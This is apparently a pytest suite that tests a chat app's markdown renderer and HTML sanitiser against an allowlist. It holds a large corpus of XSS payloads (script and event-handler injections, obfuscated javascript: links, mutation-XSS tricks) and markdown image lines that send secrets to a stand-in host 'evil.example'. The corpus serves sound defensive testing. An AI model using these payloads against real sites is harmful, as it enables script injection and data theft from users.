"""chatapp.rendering: docs/SECURITY.md rules 1-4 (inert raw HTML, link schemes, no htmx/event/style
attributes, no auto-loaded images) and the markdown features the chat relies on.

The safety checks parse the output with the stdlib HTMLParser and compare it with an
allowlist written out here, independently of the module's own constants: widening the
sanitiser should fail a test until someone also widens this file on purpose.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from django.utils.safestring import SafeString
from pygments.token import STANDARD_TYPES

from chatapp import rendering
from chatapp.rendering import RENDERER_VERSION, render_markdown, render_plain

TOKEN_CLASSES = frozenset(name for name in STANDARD_TYPES.values() if name)

MATHML_TAGS = frozenset(
    {
        "math", "mrow", "mi", "mn", "mo", "ms", "mtext", "mspace", "mpadded", "mphantom",
        "msub", "msup", "msubsup", "munder", "mover", "munderover", "mmultiscripts",
        "mprescripts", "none", "mfrac", "msqrt", "mroot", "mstyle", "menclose", "merror",
        "mtable", "mtr", "mtd", "mlabeledtr",
    }
)  # fmt: skip
ALLOWED_TAGS = frozenset(
    {
        "p", "br", "hr", "blockquote", "pre", "div",
        "h1", "h2", "h3", "h4", "h5", "h6",
        "ul", "ol", "li",
        "table", "thead", "tbody", "tr", "th", "td",
        "a", "em", "strong", "s", "code", "span", "sup", "input",
    }
) | MATHML_TAGS  # fmt: skip
# MathML presentation attributes: sizes, spacing, variants and alignment, never a URL or a style.
MATHML_ATTRS: dict[str, frozenset[str]] = {
    "math": frozenset({"display"}),
    "mi": frozenset({"mathvariant"}),
    "mn": frozenset({"mathvariant"}),
    "mtext": frozenset({"mathvariant"}),
    "mo": frozenset(
        {
            "mathvariant", "stretchy", "fence", "separator", "lspace", "rspace", "accent",
            "largeop", "movablelimits", "form", "symmetric", "minsize", "maxsize",
        }
    ),
    "mspace": frozenset({"width", "height", "depth"}),
    "mpadded": frozenset({"width", "height", "depth", "lspace", "voffset"}),
    "mfrac": frozenset({"linethickness"}),
    "mover": frozenset({"accent"}),
    "munder": frozenset({"accentunder"}),
    "munderover": frozenset({"accent", "accentunder"}),
    "mstyle": frozenset({"displaystyle", "scriptlevel", "mathvariant"}),
    "menclose": frozenset({"notation"}),
    "mtable": frozenset(
        {"columnalign", "rowalign", "columnspacing", "rowspacing", "columnlines", "rowlines", "frame"}
    ),
    "mtr": frozenset({"columnalign", "rowalign"}),
    "mtd": frozenset({"columnalign", "rowalign", "columnspan", "rowspan"}),
}  # fmt: skip
ALLOWED_ATTRS: dict[str, frozenset[str]] = {
    "a": frozenset({"href", "target", "rel"}),
    "ol": frozenset({"start"}),
    "th": frozenset({"align"}),
    "td": frozenset({"align"}),
    "pre": frozenset({"class"}),
    "div": frozenset({"class"}),
    "span": frozenset({"class"}),
    "code": frozenset({"class"}),
    "sup": frozenset({"class"}),
    "ul": frozenset({"class"}),
    "li": frozenset({"class"}),
    "input": frozenset({"class", "type", "checked", "disabled"}),
    **MATHML_ATTRS,
}
ALLOWED_CLASSES: dict[str, frozenset[str]] = {
    "pre": frozenset({"code"}),
    "div": frozenset({"code-block", "code-lang", "footnote"}),
    "span": TOKEN_CLASSES,
    "code": frozenset({"math-source"}),
    "sup": frozenset({"footnote-ref", "footnote-label"}),
    "ul": frozenset({"contains-task-list"}),
    "li": frozenset({"task-list-item"}),
    "input": frozenset({"task-list-item-checkbox"}),
}
ALLOWED_SCHEMES = frozenset({"http", "https", "mailto"})
REL = "noopener noreferrer nofollow"


class Audit(HTMLParser):
    """Collects every tag/attribute of an HTML fragment and what is wrong with it."""

    def __init__(self) -> None:
        # convert_charrefs: attribute values and text arrive decoded, as a browser sees them.
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.tags: list[str] = []
        self.classes: set[str] = set()
        self.hrefs: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        seen: set[str] = set()
        for name, value in attrs:
            self._check_attr(tag, name, value or "")
            if name in seen:
                self.problems.append(f"duplicate {name} on <{tag}>")
            seen.add(name)
        if tag == "a":
            values = dict(attrs)
            if values.get("target") != "_blank" or values.get("rel") != REL:
                self.problems.append(f"link without target/rel: {attrs}")
        if tag == "input":
            values = dict(attrs)
            if values.get("type") != "checkbox" or "disabled" not in values:
                self.problems.append(f"an input that is not a disabled checkbox: {attrs}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def _check_attr(self, tag: str, name: str, value: str) -> None:
        if name.startswith(("on", "hx-", "data-")) or name in {"style", "id", "name", "form"}:
            self.problems.append(f"forbidden attribute {name}={value!r} on <{tag}>")
        if name not in ALLOWED_ATTRS.get(tag, frozenset()):
            self.problems.append(f"attribute {name} on <{tag}>")
        if name == "class":
            for cls in value.split():
                self.classes.add(cls)
                if cls not in ALLOWED_CLASSES.get(tag, frozenset()):
                    self.problems.append(f"class {cls!r} on <{tag}>")
        if name == "href":
            self.hrefs.append(value)
            # Browsers drop leading/trailing C0 controls and spaces and every tab/newline
            # before parsing a URL; urlsplit does the latter, we do the former.
            scheme = urlsplit(value.strip("\x00- ")).scheme.lower()
            if scheme not in ALLOWED_SCHEMES:
                self.problems.append(f"href scheme {scheme!r}: {value!r}")
        if name == "align" and value not in {"left", "center", "right"}:
            self.problems.append(f"align={value!r}")
        if name == "start" and not value.isdigit():
            self.problems.append(f"start={value!r}")

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data: str) -> None:
        self.problems.append(f"processing instruction {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.problems.append(f"unknown declaration {data!r}")


def audit(html: str) -> Audit:
    parser = Audit()
    parser.feed(html)
    parser.close()
    return parser


def assert_inert(html: str) -> Audit:
    result = audit(html)
    assert result.problems == [], html
    # Belt and braces next to the parser: markup the parser might read differently from a
    # browser (e.g. a tag split by a NUL) must not be there either.
    assert not re.search(r"<\s*/?\s*(script|img|svg|iframe|style|form|object|embed)\b", html, re.I)
    return result


# --- the corpus --------------------------------------------------------------------------

XSS_PAYLOADS: dict[str, str] = {
    # Raw HTML of every kind (rule 1).
    "script": "<script>alert(1)</script>",
    "script-src-upper": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-unquoted-unclosed": "<img src=x onerror=alert(1)//",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe-js": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "style-element": "<style>body{display:none}</style>",
    "form-phish": (
        '<form action="https://evil.example"><input name="password">'
        '<button formaction="javascript:alert(1)">go</button></form>'
    ),
    "object-embed": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "base-meta-link": (
        '<base href="https://evil.example/">'
        '<meta http-equiv="refresh" content="0;url=https://evil.example">'
        '<link rel="stylesheet" href="https://evil.example/x.css">'
    ),
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "details-ontoggle": "<details open ontoggle=alert(1)>x</details>",
    "comment": "<!-- <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype-pi": "<!DOCTYPE html><?xml-stylesheet href='x'?>",
    "unclosed-script": "<script>alert(1)",
    "raw-anchor-js": '<a href="javascript:alert(1)">click</a>',
    "inline-html-in-emphasis": "**bold <img src=x onerror=alert(1)>** and _<b onmouseover=x>_",
    "broken-nesting": "<b><i>x</b></i> *<em>y*</em> <a href='x'<script>",
    "null-split-tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "entity-encoded-tags": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "table-cells": "| <script>x</script> | b |\n|-|-|\n| <img onerror=x> | `<b>` |",
    # htmx, data-*, style, DOM clobbering (rule 3).
    "hx-get": '<div hx-get="/logout" hx-trigger="load">x</div>',
    "hx-on-data-hx": '<div hx-on:click="alert(1)" data-hx-post="/x" data-x="1">x</div>',
    "style-attr": '<p style="position:fixed;inset:0;background:red">overlay</p>',
    "clobber": '<div id="csrf_token" name="body"><form id="x"></form></div>',
    "attr-list-syntax": "[x](https://example.com){hx-get=/logout onclick=alert(1)}",
    # Links (rule 2).
    "md-js": "[x](javascript:alert(1))",
    "md-js-case": "[x](JaVaScRiPt:alert(1))",
    "md-js-tab-entity": "[x](jav&#x09;ascript:alert(1))",
    "md-js-entity": "[x](&#106;avascript:alert(1))",
    "md-js-colon-entity": "[x](javascript&colon;alert(1))",
    "md-js-control-char": "[x](\x01javascript:alert(1))",
    "md-js-spaces": "[x]( javascript:alert(1) )",
    "md-js-percent-newline": "[x](java%0ascript:alert(1))",
    "md-js-angle-destination": "[x](<javascript:alert(1)>)",
    "md-js-zero-width": "[x](java\u200bscript:alert(1))",
    "md-js-fullwidth": "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
    "md-vbscript": "[x](vbscript:msgbox(1))",
    "md-data-html": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-file": "[x](file:///etc/passwd)",
    "md-ftp": "[x](ftp://example.com/f)",
    "md-tel": "[x](tel:+15550100)",
    "autolink-ssh": "<ssh://example.com>",
    "ref-irc": "[x][r]\n\n[r]: irc://example.com/chan",
    "md-protocol-relative": "[x](//evil.example/path)",
    "md-backslash-relative": "[x](\\\\evil.example/path)",
    "md-relative": "[x](/admin/logout/)",
    "md-title-injection": '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
    "md-title-single-quote": "[x](https://example.com 'x\" onclick=\"alert(1)')",
    "md-url-quote": '[x](https://example.com/"onmouseover="alert(1))',
    "ref-js": "[x][r]\n\n[r]: javascript:alert(1)",
    "ref-data": '[x][r]\n\n[r]: data:text/html,<script>alert(1)</script> "t"',
    "ref-vbscript-case": "[x][R]\n\n[r]: VBScript:msgbox(1)",
    "autolink-js": "<javascript:alert(1)>",
    "autolink-vbscript": "<vbscript:msgbox(1)>",
    "autolink-data": "<data:text/html,<script>alert(1)</script>>",
    "autolink-quote": '<https://example.com/"onmouseover="alert(1)>',
    "nested-link-in-js-link": "[![img](https://evil.example/x.png)](javascript:alert(1))",
    # Images (rules 2 and 4).
    "img-js": "![x](javascript:alert(1))",
    "img-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "img-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "img-exfiltration": "![loading](https://evil.example/c?q=SECRET_API_KEY)",
    "img-ref-exfiltration": "![logo][l]\n\n[l]: https://evil.example/c?d=secret",
    "img-alt-injection": '![" onerror="alert(1)](https://evil.example/x.png)',
    "img-file": "![x](file:///etc/passwd)",
    # Code fences (rule 1 inside the highlighter path).
    "fence-close-injection": "```\n</code></pre><script>alert(1)</script>\n```",
    "fence-split": "```html\n<script>\n```\n<img src=x onerror=alert(1)>\n```\n</script>\n```",
    "fence-unclosed": "```python\n<script>alert(1)</script>",
    "fence-info-injection": '```"><script>alert(1)</script>\ncode\n```',
    "fence-info-attrs": "~~~python onload=alert(1) class=evil style=x\nx = 1\n~~~",
    "fence-info-entity": "```&lt;img&#32;src=x&#32;onerror=alert(1)&gt;\nx\n```",
    "fence-html-lexer": "```html\n<img src=x onerror=alert(1)><a href='javascript:x'>\n```",
    "inline-code": "`<script>alert(1)</script>` and ``<img src=x onerror=alert(1)>``",
    "indented-code": "    <script>alert(1)</script>\n",
    # TeX turned into MathML (rule 1 through latex2mathml): URLs, styles, classes and raw HTML
    # inside formulas, and MathML/SVG namespace tricks written as text around them.
    "tex-href": "$\\href{javascript:alert(1)}{x}$ and $$\\href{https://evil.example}{y}$$",
    "tex-style": "\\(\\style{background:url(https://evil.example/x)}{x}\\)",
    "tex-class-id": "$\\class{sidebar}{x}$ \\[\\cssId{csrf_token}{y}\\]",
    "tex-html-in-text": "$\\text{<img src=x onerror=alert(1)>}$ $\\mathrm{<script>}$",
    "tex-unicode": "$\\unicode{x3C}script\\unicode{x3E}$ $\\unicode{<svg onload=alert(1)>}$",
    "tex-mtext-mxss": "$\\text{</mtext><mglyph><style></math><img src=x onerror=alert(1)>}$",
    "tex-broken": "$\\frac{$ $$\\begin{matrix$$ \\(\\left(\\)",
    "tex-long": "$" + "x^" * 3_000 + "x$",
    "tex-in-link": "[$x$](javascript:alert(1)) [\\(y\\)](https://ok.example)",
    "math-svg-mixed": "$x$ <svg><math><mi xlink:href=javascript:alert(1)>z</mi></math></svg>",
    "task-list-inputs": "- [x] <input type=text name=password>\n- [ ] [y](javascript:alert(1))",
    "footnote-tricks": 'a[^<img src=x onerror=alert(1)>]\n\n[^1]: <script>alert(1)</script>\n[^x"onclick=y]: z',
    # Size.
    "long-tags": "<img src=x onerror=alert(1)>" * 5_000,
    "long-links": "[x](javascript:alert(1)) " * 5_000,
    "long-brackets": "[" * 20_000 + "x](javascript:alert(1))",
    "deep-blockquote": ">" * 5_000 + " <script>alert(1)</script>",
    "deep-emphasis": "*" * 5_000 + "<svg onload=alert(1)>" + "*" * 5_000,
}


@pytest.mark.parametrize("payload", XSS_PAYLOADS.values(), ids=XSS_PAYLOADS.keys())
def test_markdown_output_is_inert(payload: str) -> None:
    html = render_markdown(payload)
    assert isinstance(html, SafeString)
    assert "<img" not in html
    assert_inert(html)


@pytest.mark.parametrize("payload", XSS_PAYLOADS.values(), ids=XSS_PAYLOADS.keys())
def test_plain_output_has_no_markup(payload: str) -> None:
    html = render_plain(payload)
    assert isinstance(html, SafeString)
    result = assert_inert(html)
    assert result.tags == []
    # Nothing lost or added: the reader sees exactly what was typed.
    assert "".join(result.text) == payload


@pytest.mark.parametrize(
    ("payload", "visible"),
    [
        ("<script>alert(1)</script>", "<script>alert(1)</script>"),
        ("<img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)>"),
        ("<svg onload=alert(1)>", "<svg onload=alert(1)>"),
        ('<iframe src="javascript:alert(1)"></iframe>', '<iframe src="javascript:alert(1)">'),
        ("<!-- hidden -->", "<!-- hidden -->"),
        ('<div hx-get="/logout">x</div>', '<div hx-get="/logout">'),
        ("<javascript:alert(1)>", "<javascript:alert(1)>"),
    ],
)
def test_raw_html_is_shown_as_text(payload: str, visible: str) -> None:
    # Rule 1 says "shows as inert text", not "disappears": the reader sees what was sent.
    assert visible in "".join(audit(render_markdown(payload)).text)


@pytest.mark.parametrize(
    "payload",
    [
        "[x](javascript:alert(1))",
        "[x](jav&#x09;ascript:alert(1))",
        "[x](//evil.example/)",
        "[x](/relative/)",
        "[x][r]\n\n[r]: vbscript:msgbox(1)",
        "[x](file:///etc/passwd)",
    ],
)
def test_refused_links_have_no_href(payload: str) -> None:
    result = audit(render_markdown(payload))
    assert result.hrefs == []
    assert "x" in "".join(result.text)


# The sanitiser must hold on its own (it is the second wall: markdown-it already escapes raw
# HTML, so the corpus above rarely reaches nh3 with anything to remove).
RAW_HTML: dict[str, str] = {
    "script": "<script>alert(1)</script><p>ok</p>",
    "img": '<img src="https://evil.example/x.png" onerror="alert(1)">',
    "svg": "<svg onload=alert(1)><circle/></svg>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="/x"><input name="a"><button>b</button><textarea>c</textarea></form>',
    "object-embed": '<object data="x"></object><embed src="x">',
    "base-meta-link": '<base href="/"><meta charset="x"><link rel="x" href="y">',
    "math": '<math href="javascript:alert(1)" style="x"><mi href="https://e.example">x</mi></math>',
    "math-mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "math-annotation": '<math><semantics><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></semantics></math>',
    "math-maction": '<math><maction actiontype="statusline"><mi>x</mi><mtext>y</mtext></maction></math>',
    "svg-in-math": "<math><mi><svg><script>alert(1)</script></svg></mi></math>",
    "svg-foreign": '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    "svg-use-xlink": '<svg><use xlink:href="data:image/svg+xml,x"/><a xlink:href="javascript:alert(1)">x</a></svg>',
    "input-kinds": '<input type="text" name="q"><input type="password"><input type="submit" formaction="/x">',
    "style": "<style>*{color:red}</style><p style='color:red'>x</p>",
    "comment-cdata": "<!-- x --><![CDATA[y]]>",
    "htmx": '<a href="https://ok.example" hx-get="/x" hx-on:click="y" data-hx-post="/z">a</a>',
    "data-attrs": '<div data-foo="x" class="code-block">a</div>',
    "events": '<p onclick="x" onmouseover="y">p</p><span onfocus="z">s</span>',
    "id-name": '<h1 id="x" name="y">h</h1><a name="z" href="https://ok.example">a</a>',
    "js-href": '<a href="javascript:alert(1)">a</a><a href=" JAVASCRIPT:alert(1)">b</a>',
    "vb-data-file": '<a href="vbscript:x">a</a><a href="data:text/html,x">b</a><a href="file:///x">c</a>',
    "other-schemes": (
        '<a href="ftp://x">a</a><a href="tel:1">b</a><a href="ssh://x">c</a>'
        '<a href="webcal://x">d</a><a href="magnet:?x">e</a>'
    ),
    "relative": '<a href="//evil.example">a</a><a href="/x">b</a><a href="#y">c</a>',
    "target-rel": '<a href="https://ok.example" target="_self" rel="opener">a</a>',
    "classes": '<span class="k evil">a</span><pre class="code sticky"></pre><p class="code">x</p>',
    "align": '<td align="justify">x</td><th align="right" style="x">y</th>',
    "ol-type": '<ol start="2" type="a" reversed><li value="9">x</li></ol>',
    "media": '<video src="x"></video><audio src="y"></audio><source src="z"><picture></picture>',
    "other-tags": "<details><summary>s</summary></details><dialog open>d</dialog><marquee>m</marquee>",
    "generic-attrs": '<p title="x" lang="en" dir="rtl" tabindex="1" accesskey="k">p</p>',
    "xmp-plaintext": "<xmp><script>x</script></xmp><plaintext><b>",
}


@pytest.mark.parametrize("html", RAW_HTML.values(), ids=RAW_HTML.keys())
def test_sanitiser_alone_allows_only_the_allowlist(html: str) -> None:
    assert_inert(rendering._CLEANER.clean(html))


# --- positive behaviour ----------------------------------------------------------------


def test_empty_input() -> None:
    assert render_markdown("") == ""
    assert isinstance(render_markdown(""), SafeString)
    assert render_plain("") == ""
    assert isinstance(render_plain(""), SafeString)


def test_renderer_version_is_an_int() -> None:
    assert isinstance(RENDERER_VERSION, int)
    assert RENDERER_VERSION >= 1


@pytest.mark.parametrize(
    ("markdown", "expected"),
    [
        ("# One", "<h1>One</h1>"),
        ("###### Six", "<h6>Six</h6>"),
        ("Setext\n---", "<h2>Setext</h2>"),
        ("*em* and _em_", "<p><em>em</em> and <em>em</em></p>"),
        ("**strong**", "<strong>strong</strong>"),
        ("~~gone~~", "<s>gone</s>"),
        ("`a < b`", "<code>a &lt; b</code>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>'),
        ("> quoted", "<blockquote>\n<p>quoted</p>\n</blockquote>"),
        ("a\n\n---\n\nb", "<hr>"),
        ("line  \nbreak", "line<br>\nbreak"),
        ("a & b < c", "<p>a &amp; b &lt; c</p>"),
    ],
)
def test_markdown_features(markdown: str, expected: str) -> None:
    html = render_markdown(markdown)
    assert expected in html
    assert_inert(html)


def test_table_keeps_alignment_without_style() -> None:
    html = render_markdown("| l | r | c | n |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |")
    assert '<th align="left">l</th>' in html
    assert '<th align="right">r</th>' in html
    assert '<td align="center">3</td>' in html
    assert "<td>4</td>" in html
    assert "style" not in html
    assert audit(html).tags[:3] == ["table", "thead", "tr"]


@pytest.mark.parametrize(
    ("markdown", "href"),
    [
        ("[x](https://example.com/a?b=1&c=2)", "https://example.com/a?b=1&c=2"),
        ("[x](http://example.com)", "http://example.com"),
        ("<https://example.com/auto>", "https://example.com/auto"),
        ("<someone@example.com>", "mailto:someone@example.com"),
        ("[x](mailto:someone@example.com)", "mailto:someone@example.com"),
        ("[x][ref]\n\n[ref]: https://example.com/ref", "https://example.com/ref"),
        ("[x](HTTPS://EXAMPLE.COM)", "HTTPS://EXAMPLE.COM"),
    ],
)
def test_links_survive_with_rel_and_target(markdown: str, href: str) -> None:
    html = render_markdown(markdown)
    result = assert_inert(html)
    assert result.hrefs == [href]
    assert 'target="_blank"' in html
    assert f'rel="{REL}"' in html


def test_bare_urls_are_not_linkified() -> None:
    assert "<a" not in render_markdown("see https://example.com")


@pytest.mark.parametrize(
    ("markdown", "href", "text"),
    [
        ("![a cat](https://example.com/cat.png)", "https://example.com/cat.png", "image: a cat"),
        (
            "![*fancy* alt](http://example.com/x.png)",
            "http://example.com/x.png",
            "image: fancy alt",
        ),
        ("![](https://example.com/x.png)", "https://example.com/x.png", "image"),
        ("![r][i]\n\n[i]: https://example.com/i.png", "https://example.com/i.png", "image: r"),
    ],
)
def test_images_become_links(markdown: str, href: str, text: str) -> None:
    html = render_markdown(markdown)
    result = assert_inert(html)
    assert "<img" not in html
    assert result.tags == ["p", "a"]
    assert result.hrefs == [href]
    assert "".join(result.text).strip() == text


@pytest.mark.parametrize(
    "markdown",
    ["![pic](data:image/png;base64,iVBORw0KGgo=)", "![pic](/relative.png)", "![pic](ftp://x/y)"],
)
def test_images_without_http_url_keep_only_their_text(markdown: str) -> None:
    html = render_markdown(markdown)
    result = assert_inert(html)
    assert result.tags == ["p"]
    assert "".join(result.text).strip() == "image: pic"


def test_code_block_is_highlighted_with_allowed_classes() -> None:
    html = render_markdown("```python\nimport os\n\ndef f(x):\n    return 'a' + 1  # c\n```")
    result = assert_inert(html)
    assert html.startswith(
        '<div class="code-block"><div class="code-lang">python</div><pre class="code"><code>'
    )
    assert '<span class="kn">import</span>' in html
    assert '<span class="nf">f</span>' in html
    assert '<span class="c1"># c</span>' in html
    assert result.classes - {"code-block", "code-lang", "code"} <= TOKEN_CLASSES
    assert "language-" not in html


@pytest.mark.parametrize(
    ("lang", "code"),
    [
        ("js", "const x = `a${b}`; // c\n"),
        ("TypeScript", "let x: number = 1;\n"),
        ("html", '<a href="javascript:x" onclick="y">t</a>\n'),
        ("css", "a { color: red; }\n"),
        ("bash", "echo $HOME | grep x\n"),
        ("console", "$ ls -l\ntotal 0\n"),
        ("sql", "SELECT * FROM t WHERE a = 'b';\n"),
        ("rust", 'fn main() { println!("{}", 1u8); }\n'),
        ("go", "package main\nfunc main() {}\n"),
        ("json", '{"a": [1, true, null]}\n'),
        # YAML's lexer emits non-standard token types (Literal.Scalar.Plain).
        ("yaml", "key: plain value\nlist:\n  - item\n  - {a: [1, 'b']}\n"),
        ("diff", "--- a\n+++ b\n@@ -1 +1 @@\n-x\n+y\n"),
        ("cpp", "#include <x>\nint main() { return 0; }\n"),
        ("pycon", ">>> 1 + 1\n2\n"),
        ("python", "@dataclass\nclass A:\n    x: int = 0x1F\n"),
    ],
)
def test_highlighting_classes_stay_in_the_allowlist(lang: str, code: str) -> None:
    html = render_markdown(f"```{lang}\n{code}```")
    result = assert_inert(html)
    assert "<span class=" in html
    # Nothing the lexer produced was stripped: every span kept a real class.
    assert '<span class="">' not in html
    assert "<span>" not in html
    assert result.classes - {"code-block", "code-lang", "code"} <= TOKEN_CLASSES


@pytest.mark.parametrize(
    ("info", "label"),
    [
        ("c<script>", "c&lt;script&gt;"),
        # nh3 re-serialises text nodes, where a bare quote is plain text.
        ('py" onload="x', 'py"'),
        ("x&amp;y", "x&amp;y"),
        ("a" * 100, "a" * rendering.MAX_LANG_LABEL_CHARS),
    ],
)
def test_language_label_is_escaped_text(info: str, label: str) -> None:
    html = render_markdown(f"```{info}\nbody\n```")
    assert_inert(html)
    assert f'<div class="code-lang">{label}</div>' in html


@pytest.mark.parametrize(
    "markdown",
    [
        "```no-such-language\nif x: y\n```",
        "```text\nimport os\n```",
        "```\nimport os\n```",
        "    import os\n",
    ],
)
def test_unknown_or_plain_code_is_escaped_not_guessed(markdown: str) -> None:
    html = render_markdown(markdown)
    assert_inert(html)
    assert "<span" not in html
    assert '<pre class="code"><code>' in html


def test_oversized_code_block_is_plain() -> None:
    code = "x = 1\n" * (rendering.MAX_HIGHLIGHT_CHARS // 6 + 1)
    html = render_markdown(f"```python\n{code}```\n\n```python\ny = 2\n```")
    assert_inert(html)
    first, second = html.split('<div class="code-block">')[1:]
    assert "<span" not in first
    assert '<span class="n">y</span>' in second


def test_highlight_budget_is_per_document() -> None:
    block = "x = 1\n" * (rendering.MAX_HIGHLIGHT_CHARS // 6 - 1)
    html = render_markdown(f"```python\n{block}```\n\n```python\n{block}```")
    first, second = html.split('<div class="code-block">')[1:]
    assert "<span" in first
    assert "<span" not in second
    # The budget lives in the render call, not in module state.
    assert "<span" in render_markdown(f"```python\n{block}```")


def test_code_content_is_verbatim() -> None:
    code = "\n  leading blank line\n\ttab & <tag> \"q\" 'q'\n\ntrailing blank\n\n"
    html = render_markdown(f"```\n{code}```")
    assert html.endswith("</code></pre></div>\n")
    assert "".join(audit(html).text) == code + "\n"


def test_render_plain_escapes_and_keeps_newlines() -> None:
    text = "line 1\n<b>line 2</b> & 'q' \"d\"\r\n\n  indented\ttab"
    html = render_plain(text)
    assert "<b>" not in html
    assert "&lt;b&gt;" in html
    assert "\n\n  indented\ttab" in html
    assert "<br" not in html
    assert "".join(audit(html).text) == text


def test_render_plain_does_not_interpret_markdown() -> None:
    assert render_plain("**not bold** [x](https://e.example)") == (
        "**not bold** [x](https://e.example)"
    )


MIXED = """# Title

Some *text* with `code`, a [link](https://example.com) and ![img](https://example.com/i.png).

| a | b |
|:-:|--:|
| 1 | 2 |

```python
def f() -> int:
    return 1
```

> quote <script>alert(1)</script>
"""


def test_output_is_stable() -> None:
    first = render_markdown(MIXED)
    assert render_markdown(MIXED) == first
    assert render_markdown(MIXED * 3) == first * 3
    assert_inert(first)
    assert render_plain(MIXED) == render_plain(MIXED)
